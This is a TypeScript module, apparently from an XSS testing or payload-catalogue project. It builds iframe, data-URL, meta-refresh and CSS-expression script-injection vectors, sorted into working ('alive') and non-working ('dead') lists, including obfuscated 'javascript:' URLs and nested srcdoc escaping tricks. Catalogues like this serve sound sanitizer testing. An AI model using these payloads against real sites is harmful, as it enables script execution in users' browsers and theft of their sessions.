import type { Code } from './code.ts';
import { alive, dead, type Vector } from './vector.ts';

/** Scripts in URLs, and in pages inside the page. */
export const frames = ({ js, attr, url, base64 }: Code): Vector[] => [
  ...alive([
    `<iframe src=" &#1;Java&#9;script&#58;${attr}"></iframe>`,
    `<iframe src="javascript://%0a${url}"></iframe>`,
    `<iframe srcdoc="<script>${attr}</script>"></iframe>`,
    `<iframe srcdoc="&lt;iframe srcdoc=&quot;&amp;lt;script>${js.replaceAll('"', '&amp;amp;quot;')}&amp;lt;/script>&quot;>&lt;/iframe>"></iframe>`,
  ]),
  ...dead([
    `<iframe srcdoc="&amp;lt;script>${attr}&amp;lt;/script>"></iframe>`,
    `<iframe src="data:text/html,<script>${attr}</script>"></iframe>`,
    `<meta http-equiv=refresh content="0;url=data:text/html;base64,${base64}">`,
    `<b style="width:expression(${attr});background:url(javascript:${url})">x</b>`,
  ]),
];
